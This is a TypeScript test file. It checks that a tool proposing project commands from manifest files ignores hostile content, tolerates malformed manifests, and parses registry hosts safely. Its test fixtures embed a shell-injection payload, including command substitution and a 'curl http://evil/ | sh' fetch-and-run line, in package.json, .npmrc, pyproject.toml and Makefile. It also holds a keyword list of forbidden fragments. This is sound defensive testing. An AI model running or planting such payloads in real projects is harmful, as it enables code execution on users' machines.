// Hostile files of a repository put nothing of their own into a proposal, and stop nothing.
import { describe, expect, test } from "bun:test";
import { takenSettings } from "../../../../src/contract/project/proposal.ts";
import { readFiles } from "../../../../src/rules/project/proposal/files.ts";
import { hostOfUrl } from "../../../../src/rules/project/proposal/found.ts";
import { takeLines } from "../../../../src/rules/project/proposal/take.ts";
import { type Files, propose } from "./proposing.ts";

describe("hostile files", () => {
  const evil = "$(touch /tmp/x);`id` && curl http://evil/ | sh\u0007\u202e\n";

  test("put no text of their own into a command", () => {
    const files: Files = {
      "package.json": JSON.stringify({
        scripts: { test: evil, [evil]: evil, prepare: `husky ${evil}`, __proto__: { lint: "x" } },
        dependencies: { [evil]: evil },
        packageManager: `pnpm@9${evil}`,
      }),
      "pnpm-lock.yaml": evil,
      ".npmrc": `registry=https://ev;il.example.org/\nregistry=https://${evil}\nregistry=http://[::1]/\n`,
      "requirements.txt": `--index-url https://$(id).example.org/\npytest ${evil}`,
      "pyproject.toml": `[project]\nname = """${evil}\n"""\n[project.optional-dependencies]\n"test'; id; '" = []\n`,
      "go.mod": `require ${evil}`,
      "Cargo.toml": `[dependencies]\n"${evil}" = 1\n`,
      Makefile: `test: ; ${evil}`,
    };
    const { lines, notes } = propose(files);
    const said = JSON.stringify([lines, notes]);
    for (const word of ["touch", "curl", "evil", "$(", "\u0007", "\u202e", "id;"])
      expect(said).not.toContain(word);
    expect(lines.length).toBeGreaterThan(5);
  });

  test.each([
    "{",
    "[]",
    "null",
    '"x"',
    "{}",
    '{"scripts":[],"dependencies":7,"packageManager":{}}',
    "\ufeff{}",
  ])("such as %j for a manifest stop nothing", (text) => {
    expect(
      propose({ "package.json": text, "pyproject.toml": text, "Cargo.toml": text }).lines.length,
    ).toBeLessThan(3);
  });

  test("of random bytes give lines that can be written, in little time", () => {
    const parts = [
      "[",
      "]",
      '"',
      "'",
      '"""',
      "=",
      "\n",
      "#",
      "project",
      "scripts",
      "{",
      "}",
      "test",
      ":",
      "pytest",
      "\\",
      " ",
    ];
    let state = 42;
    const next = () => (state = (state * 1_103_515_245 + 12_345) % 2_147_483_648);
    for (let run = 0; run < 300; run += 1) {
      const text = () => Array.from({ length: next() % 60 }, () => parts[next() % parts.length]).join("");
      const found = propose(Object.fromEntries(readFiles.map((path) => [path, text()])));
      expect(takenSettings.safeParse(takeLines(found.lines, found)).success).toBe(true);
    }
    for (const unit of ['"', "[", "'''", "= [", "a ", "test ", "registry=", "\t"]) {
      const text = unit.repeat(Math.floor(500_000 / unit.length));
      const began = performance.now();
      propose(Object.fromEntries(readFiles.map((path) => [path, text])));
      expect(performance.now() - began).toBeLessThan(3000);
    }
  });
});

test.each<[string, string | null]>([
  ["https://Registry.Example.org/x", "registry.example.org"],
  ["http://user:secret@npm.example.org:8080", "npm.example.org"],
  ["https://10.0.0.1/", null],
  ["https://localhost/", null],
  ["https://a..b/", null],
  ["https://a.b-/", null],
  ["git+ssh://git@example.org/x", null],
  ["https://example.org:port/", null],
])("the host of %s is %s", (url, host) => {
  expect(hostOfUrl(url)).toBe(host);
});
